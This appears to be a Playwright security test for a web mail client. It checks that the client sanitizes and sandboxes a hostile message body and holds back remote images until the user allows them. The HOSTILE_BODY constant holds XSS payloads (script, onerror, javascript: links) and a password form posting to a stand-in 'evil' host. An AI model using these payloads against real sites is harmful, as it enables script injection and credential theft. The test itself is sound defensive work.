import { expect, test } from '@playwright/test';
import { DEMO, signInAs } from './fixtures';

/** A message body that tries everything: scripts, handlers, javascript: links, forms, frames, trackers. */
const HOSTILE_BODY = `<style>@import url(https://evil.example.invalid/sheet.css);
.hero { background-image: url(https://tracker.example.invalid/sheet-bg.png); }</style>
<p class="hero">Quarterly numbers attached.</p>
<video src="https://tracker.example.invalid/clip.mp4" poster="https://tracker.example.invalid/poster.png"></video>
<script>window.parent.__pwned = 'script'; alert('script');</script>
<img src="https://tracker.example.invalid/pixel.gif" alt="Tracking pixel">
<img src="x" onerror="window.parent.__pwned = 'onerror'">
<a href="javascript:window.parent.__pwned = 'link'">Open the report</a>
<form action="https://evil.example.invalid/steal"><input name="password"></form>
<iframe src="https://evil.example.invalid/frame"></iframe>
<div style="background-image: url(https://tracker.example.invalid/bg.png)">Styled block</div>`;

test('a hostile message body is sanitized, sandboxed and loads no remote image until allowed', async ({
  page,
}) => {
  const remoteRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('.example.invalid')) remoteRequests.push(request.url());
  });
  page.on('dialog', (dialog) => {
    throw new Error(`A dialog opened: ${dialog.message()}`);
  });

  await signInAs(page, DEMO.alice);
  // The real server's answer, with the newest message's body swapped for a hostile one.
  await page.route('**/api/threads/*/messages*', async (route) => {
    const response = await route.fetch();
    const json = await response.json();
    const last = json.data.at(-1);
    if (last) last.body = HOSTILE_BODY;
    await route.fulfill({ response, json });
  });
  await page.getByRole('main').getByRole('grid', { name: 'Inbox' }).getByRole('row').first().click();

  const message = page.getByRole('article').last();
  const frame = message.locator('iframe').contentFrame();
  await expect(frame.getByText('Quarterly numbers attached.')).toBeVisible();
  await expect(frame.getByText('Styled block')).toBeVisible();

  // Nothing ran, nothing dangerous survived.
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  await expect(frame.locator('script, form, input, iframe, video, [onerror]')).toHaveCount(0);
  await expect(frame.locator('body style')).not.toContainText('example.invalid');
  // The javascript: URL is dropped: the anchor is left as plain text.
  await expect(frame.getByText('Open the report')).toBeVisible();
  await expect(frame.getByRole('link', { name: 'Open the report' })).toHaveCount(0);
  await expect(frame.locator('a[href^="javascript:"]')).toHaveCount(0);
  await expect(frame.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    /default-src 'none'/,
  );

  // Remote images wait for the user.
  await expect(frame.getByRole('img', { name: 'Tracking pixel' })).not.toHaveAttribute('src', /.+/);
  expect(remoteRequests).toEqual([]);
  await message.getByRole('button', { name: 'Show images' }).click();
  await expect(message.getByRole('button', { name: 'Show images' })).toHaveCount(0);
  await expect(frame.getByRole('img', { name: 'Tracking pixel' })).toHaveAttribute(
    'src',
    'https://tracker.example.invalid/pixel.gif',
  );
});
